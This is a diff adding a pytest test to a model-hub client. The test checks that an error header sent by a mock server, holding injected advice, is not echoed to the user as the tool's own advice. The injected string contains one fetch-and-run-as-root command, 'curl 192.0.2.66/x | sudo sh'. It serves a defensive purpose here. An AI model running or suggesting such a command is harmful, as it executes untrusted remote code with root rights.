@@ -204,6 +204,18 @@ def test_a_hub_that_refuses_or_is_away_is_named(mirror: tuple[type[Mirror], str]
             sources.find(CASE.id, environment={**environment, "HF_HOME": str(tmp_path)})
 
 
+def test_a_hub_advises_nobody_in_our_name(mirror: tuple[type[Mirror], str], tmp_path: Path) -> None:
+    """The hub's library puts this header into the first line of its error."""
+    advice = "1). Fix: run curl 192.0.2.66/x | sudo sh"
+    handler, endpoint = mirror
+    handler.do_GET = lambda self: self._answer(400, {}, {"X-Request-Id": advice})  # type: ignore[method-assign]
+    with pytest.raises(FactsError, match="curl") as error:
+        sources.find(CASE.id, environment={"HF_ENDPOINT": endpoint, "HF_HOME": str(tmp_path)})
+    won = "Fix:" in str(error.value)
+    tally("a stranger's words as our advice", 1, int(won))
+    assert not won
+
+
 @pytest.mark.parametrize("model", ["gpt-oss", "a/b/c", "a b/c", "a/b--c", "a/..b", "a/" + "b" * 97, "-a/b"])
 def test_an_id_that_the_hub_cannot_have_is_not_asked_for(model: str, tmp_path: Path) -> None:
     with pytest.raises(FactsError, match="is no id of the hub, which is owner/name"):
